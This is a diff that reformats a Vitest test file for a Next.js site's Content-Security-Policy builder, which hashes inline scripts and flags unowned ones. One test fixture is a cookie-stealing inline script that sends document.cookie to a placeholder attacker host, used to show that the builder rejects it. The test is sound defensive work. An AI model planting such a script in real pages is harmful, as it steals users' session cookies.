@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { inlineScripts, pagePolicy, policyProblems, readPagePolicy, scriptHash, scriptOwner, withPagePolicy } from './csp';
+import {
+  inlineScripts,
+  pagePolicy,
+  policyProblems,
+  readPagePolicy,
+  scriptHash,
+  scriptOwner,
+  withPagePolicy,
+} from './csp';
 
 const page = (head: string, body = '') =>
   `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><script src="/_next/static/chunks/a.js" async=""></script>${head}</head><body>${body}</body></html>`;
@@ -11,12 +19,22 @@ const siteScript = '<script data-kw-script="colour-mode">document.documentElemen
 describe('inline scripts and their owners', () => {
   it('lists inline JavaScript only: not src scripts or JSON data blocks', () => {
     const html = page(`${siteScript}<script type="application/ld+json">{"a":1}</script>`, payload);
-    expect(inlineScripts(html).map((script) => script.body)).toEqual(['document.documentElement.classList.add("x")', 'self.__next_f.push([1,"1:I[1,[],\\"\\"]\\n"])']);
+    expect(inlineScripts(html).map((script) => script.body)).toEqual([
+      'document.documentElement.classList.add("x")',
+      'self.__next_f.push([1,"1:I[1,[],\\"\\"]\\n"])',
+    ]);
   });
 
   it("knows Next.js's bootstrap and payload, and the site's marked scripts", () => {
-    const [bootstrap, push, own, stranger] = inlineScripts(page(nextBootstrap + payload + siteScript + '<script>alert(1)</script>'));
-    expect([bootstrap, push, own, stranger].map((script) => script && scriptOwner(script))).toEqual(['next', 'next', 'site', undefined]);
+    const [bootstrap, push, own, stranger] = inlineScripts(
+      page(nextBootstrap + payload + siteScript + '<script>alert(1)</script>'),
+    );
+    expect([bootstrap, push, own, stranger].map((script) => script && scriptOwner(script))).toEqual([
+      'next',
+      'next',
+      'site',
+      undefined,
+    ]);
   });
 
   it('hashes as browsers do (SHA-256 of the text, base64)', () => {
@@ -33,26 +51,44 @@ describe('withPagePolicy', () => {
     expect(policy).toContain("default-src 'self'");
     expect(policy).toContain("connect-src 'self' https://api.kilowise.io");
     expect(policy?.match(/script-src [^;]*/)?.[0]).not.toMatch(/unsafe-inline|unsafe-eval/);
-    expect(policy?.match(/script-src [^;]*/)?.[0].split(' ').filter((source) => source.startsWith("'sha256-"))).toHaveLength(3);
+    expect(
+      policy
+        ?.match(/script-src [^;]*/)?.[0]
+        .split(' ')
+        .filter((source) => source.startsWith("'sha256-")),
+    ).toHaveLength(3);
     expect(policyProblems(html, 'index.html')).toEqual([]);
   });
 
   it('stops on an inline script nobody owns, naming the file and the script', () => {
-    expect(() => withPagePolicy(page('', '<script>fetch("https://evil.example/"+document.cookie)</script>'), '.next/server/app/api.html', [])).toThrow(
+    expect(() =>
+      withPagePolicy(
+        page('', '<script>fetch("https://evil.example/"+document.cookie)</script>'),
+        '.next/server/app/api.html',
+        [],
+      ),
+    ).toThrow(
       /^\[csp\] \.next\/server\/app\/api\.html: an inline script the site does not own: <script>fetch\("https:\/\/evil\.example/,
     );
   });
 
   it('refuses a page that already has a policy', () => {
     const once = withPagePolicy(page(siteScript), 'a.html', []);
-    expect(() => withPagePolicy(once, 'a.html', [])).toThrow('[csp] a.html already has a Content-Security-Policy meta tag');
+    expect(() => withPagePolicy(once, 'a.html', [])).toThrow(
+      '[csp] a.html already has a Content-Security-Policy meta tag',
+    );
   });
 });
 
 describe('policyProblems', () => {
   it('finds a script whose hash is missing, and a page without a policy', () => {
-    const html = withPagePolicy(page(siteScript), 'a.html', []).replace('</body>', '<script data-kw-script="late">later()</script></body>');
-    expect(policyProblems(html, 'a.html')).toEqual(['[csp] a.html: the hash of an inline script is missing from the policy: later()…']);
+    const html = withPagePolicy(page(siteScript), 'a.html', []).replace(
+      '</body>',
+      '<script data-kw-script="late">later()</script></body>',
+    );
+    expect(policyProblems(html, 'a.html')).toEqual([
+      '[csp] a.html: the hash of an inline script is missing from the policy: later()…',
+    ]);
     expect(policyProblems(page(''), 'b.html')).toEqual(['[csp] b.html has no Content-Security-Policy meta tag']);
   });
 
